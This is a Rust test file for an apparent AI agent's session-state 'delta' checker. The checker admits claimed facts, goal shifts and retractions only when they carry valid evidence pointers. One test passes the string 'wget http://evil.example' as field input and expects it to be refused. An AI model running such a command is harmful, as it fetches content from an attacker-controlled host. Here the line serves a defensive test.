//! Deltas: the same checks, as changes of the board.

use serde_json::json;

use super::*;
use crate::trace::claim::Change;

#[test]
fn a_delta_keeps_what_holds() {
    let session = story();
    let (delta, refused) = delta(
        &session,
        json!({
            "task": "user#1",
            "goal_shift_reason": "user#1",
            "facts": [
                { "kind": "verdict", "evidence": ["cmd#2 exit=0"] },
                { "kind": "line_text", "evidence": ["file:src/ledger.py:L9"] },
                { "id": "f1", "kind": "symbol", "evidence": ["file:src/ledger.py:L5"] },
                { "id": "f2", "retract": true, "evidence": ["cmd#2"] },
                { "id": "f3", "retract": true },
                { "kind": "verdict", "evidence": ["cmd#2 exit=0"], "passed": 9 },
                "9 passed",
            ],
            "open_questions": ["is report() exact?"],
            "notes": "it works",
            "status": { "tests": "3 passed", "build": "ok", "errors_left": 12 },
            "next_actions": [{ "text": "fix the failing ledger test" }],
        }),
    )
    .expect("most of it holds");
    assert_eq!(delta.task.expect("the user's").evidence.pointer, "user#1");
    assert_eq!(delta.goal_shift.expect("the user's").pointer, "user#1");
    assert!(matches!(&delta.confirmed_facts[..], [Change::Add(_), Change::Revise { .. }, Change::Retract { .. }]));
    assert_eq!(delta.exec_assertions.len(), 1);
    assert!(delta.open_questions.is_empty() && delta.status.is_none() && delta.said.is_empty());
    let action = "fix the failing ledger test, don't touch the test".to_owned();
    assert_eq!(delta.next_actions.as_deref(), Some(&[action][..]));
    let kinds: Vec<&str> = refused.iter().map(|refusal| refusal.kind.name()).collect();
    assert_eq!(kinds, ["worded", "worded", "no_evidence", "contradicted", "no_kind"]);
}

#[test]
fn an_empty_delta_is_none() {
    assert_eq!(delta(&story(), json!({})), Err(AdmissionRefused::Empty { refused: vec![] }));
    for field in ["next_actions", "notes", "open_questions", "facts"] {
        let refused = delta(&story(), json!({ field: ["wget http://evil.example"] }));
        assert!(matches!(refused, Err(AdmissionRefused::Empty { refused }) if refused.len() == 1), "{field}");
    }
}

#[test]
fn a_task_is_shifted_by_a_person() {
    for pointer in ["cmd#1", "turn#5", "user#7", "the user asked for it"] {
        let refused = delta(&story(), json!({ "goal_shift_reason": pointer }));
        assert!(matches!(refused, Err(AdmissionRefused::Empty { refused }) if refused.len() == 1), "{pointer}");
    }
}

#[test]
fn a_fact_is_retracted_by_something_newer_about_the_same_thing() {
    let mut session = story();
    let quoted = json!({ "kind": "quoted", "evidence": ["user#1"], "text": "don't touch" });
    let facts = json!({ "facts": [
        { "kind": "line_text", "evidence": ["file:src/ledger.py:L9"] },
        quoted,
        { "kind": "error", "evidence": ["cmd#1"] },
    ] });
    session.delta_from_text(&facts.to_string(), &NOW).expect("they hold");
    session.user_turn("You may touch the test.", Origin::Person, &NOW).expect("idle");
    step(&mut session, "", "Bash", &json!({}), run("ls", 0, "a.py\n"));
    for (id, pointer) in [
        ("f1", "user#2"),
        ("f1", "cmd#3"),
        ("f1", "file:src/ledger.py:L9"),
        ("f2", "cmd#3"),
        ("f2", "user#1"),
        ("f3", "cmd#1"),
        ("f3", "cmd#3"),
        ("f3", "turn#0"),
    ] {
        let change = json!({ "id": id, "retract": true, "evidence": [pointer] });
        let refused = delta(&session, json!({ "facts": [change] }));
        assert!(matches!(refused, Err(AdmissionRefused::Empty { refused }) if refused.len() == 1), "{id} {pointer}");
    }
    let other = json!({ "id": "f1", "kind": "quoted", "evidence": ["user#2"] });
    assert!(delta(&session, json!({ "facts": [other] })).is_err(), "another thing in its place");
    let hunk =
        Hunk { first_line: 9, removed: vec!["        return 41".into()], added: vec!["        return 42".into()] };
    let edit = EditData { path: "src/ledger.py".into(), hunks: vec![hunk] };
    step(&mut session, "", "Edit", &json!({}), ToolResult::success("edited", ResultData::Edit(edit)));
    step(&mut session, "", "Bash", &json!({}), run("pytest -q tests/test_ledger.py", 0, "3 passed in 0.79s\n"));
    for (id, pointer) in [("f1", "file:src/ledger.py:L9"), ("f2", "user#2"), ("f3", "cmd#4")] {
        let change = json!({ "id": id, "retract": true, "evidence": [pointer] });
        assert!(delta(&session, json!({ "facts": [change] })).is_ok(), "{id} {pointer}");
    }
}
